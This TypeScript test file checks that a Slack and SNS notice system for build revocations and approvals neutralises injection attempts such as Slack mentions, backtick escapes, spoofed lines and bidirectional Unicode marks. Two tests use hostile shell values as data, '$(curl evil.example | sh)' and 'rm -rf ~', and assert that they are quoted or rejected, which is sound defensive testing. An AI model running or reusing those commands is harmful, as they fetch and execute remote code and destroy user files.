import { expect, onTestFinished, test } from "vitest";
import { postNotice } from "../../adapters/notice/slack.ts";
import { describeApproval } from "../../core/approval/notice.ts";
import { describeWaiverExpiring } from "../../core/gate/notice.ts";
import type { Notice } from "../../core/notice/notice.ts";
import { toContext } from "../../core/notice/slack-blocks.ts";
import { toSnsMessage } from "../../core/notice/sns-message.ts";
import { describeBuildRevoked } from "../../core/revocation/notice.ts";
import { parseBuildArn } from "../../events/ids.ts";
import { buildRevoked } from "../../events/revocation.ts";
import { type SimulatedSlack, startSlack } from "../../local/slack/slack.ts";

const build = parseBuildArn("arn:aws:imagebuilder:eu-west-1:111122223333:image/acme-base/1.0.1/1");

const openSlack = async (): Promise<SimulatedSlack> => {
  const slack = await startSlack("xoxb-test");
  onTestFinished(() => slack.close());
  return slack;
};

async function post(notice: Notice) {
  const slack = await openSlack();
  await postNotice({ token: async () => "xoxb-test", apiUrl: slack.url, channel: "#images" }, notice);
  const [message] = slack.messages;
  const [header, section] = message!.blocks as unknown as { text: { text: string; verbatim?: boolean } }[];
  return { text: message!.text, header: header!.text.text, body: section!.text.text, verbatim: section!.text.verbatim };
}

const question = {
  image: "base",
  build,
  channel: "stable",
  approvers: ["ada"],
  required: 1,
  expiresAt: "2026-04-02T08:00:00Z",
  answers: [],
  change: {
    image: "base",
    triggers: [],
    previous: undefined,
    evidence: undefined,
    evidenceBefore: undefined,
    gate: undefined,
  },
};

const revokedFor = (reason: string): Notice =>
  describeBuildRevoked({
    image: "base",
    build,
    reason,
    by: "mallory",
    channels: [],
    withdrawn: [],
    sharedWith: [],
    left: [],
  });

test("a reason with <!channel> mentions no one where Slack shows the text alone", async () => {
  const { text } = await post(
    describeApproval({ ...question, over: "<!channel> see <https://evil.example|the runbook>" }, { event: "approval" }),
  );

  expect(text).not.toMatch(/[<>]/);
});

test("a reason with three backticks does not end the block of code", async () => {
  const { body } = await post(revokedFor("``` *Approved by ada* <!here> ```"));

  expect(body.slice(3, -3)).not.toContain("```");
});

test("a reason with line breaks adds no line that looks like the factory's own", async () => {
  const notice = revokedFor("leak\napproved by ada (slack)\r\u2028\u0085approved by eve");
  const { body } = await post(notice);
  const sns = JSON.parse(toSnsMessage(notice, "event-1").message) as Record<string, string>;

  for (const text of [body, sns.default!])
    expect(text.split(/\r\n|[\r\n\u2028\u2029\u0085]/)).not.toContain("approved by ada (slack)");
  expect(`${body}${sns.default}`).not.toMatch(/[\r\u2028\u2029\u0085]/);
});

test("bidirectional marks do not turn text around, in Slack, mail or chat", async () => {
  const notice = revokedFor("\u202Edetcejer\u202C \u2066x\u2069 \u200E\u{E0041}");
  const { body, text, header } = await post(notice);
  const { message } = toSnsMessage(notice, "event-1");

  for (const shown of [body, text, header, message])
    expect(shown).not.toMatch(/[\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\u{e0000}-\u{e007f}]/u);
});

test("Slack makes no link of an address in a reason", async () => {
  const { verbatim } = await post(revokedFor("see https://evil.example/fix"));
  const { elements } = toContext(["see https://evil.example/fix, `@channel`, *approved*"]);

  expect(verbatim).toBe(true);
  expect(elements).toEqual([expect.objectContaining({ verbatim: true })]);
});

test("the command in a waiver's notice runs nothing of its owner's choosing when it is pasted", () => {
  const { lines } = describeWaiverExpiring({
    finding: "CVE-2026-1",
    image: "base",
    owner: '$(curl evil.example | sh)"; rm -rf ~; "',
    reason: "none",
    until: "2026-05-01",
  });

  expect(lines.at(-1)).toContain(`--owner '$(curl evil.example | sh)"; rm -rf ~; "'`);
});

test("a title of control characters only is a subject that SNS takes", () => {
  expect(toSnsMessage({ ...revokedFor("x"), title: "\u001b\u0007\u0000" }, "event-1").subject).toMatch(
    /^[\x21-\x7e][\x20-\x7e]{0,99}$/,
  );
});

test("an attribute of another account's choosing does not keep SNS from taking the notice", () => {
  const { attributes } = toSnsMessage(
    { ...revokedFor("x"), attributes: { event: "build.revoked", image: "\ud800\u0000", channel: "" } },
    "event-1",
  );

  for (const value of Object.values(attributes)) expect(value).toMatch(/^[^\p{Cc}\p{Cs}]+$/u);
});

test("an event with a command for a name of an image reaches no notice", () => {
  const detail = { build, reason: "x", by: "ada", channels: [], withdrawn: [], sharedWith: [], left: [] };
  const isTaken = (image: string) => buildRevoked.detail.safeParse({ ...detail, image }).success;

  expect([isTaken("base"), isTaken("$(curl evil.example|sh)")]).toEqual([true, false]);
});
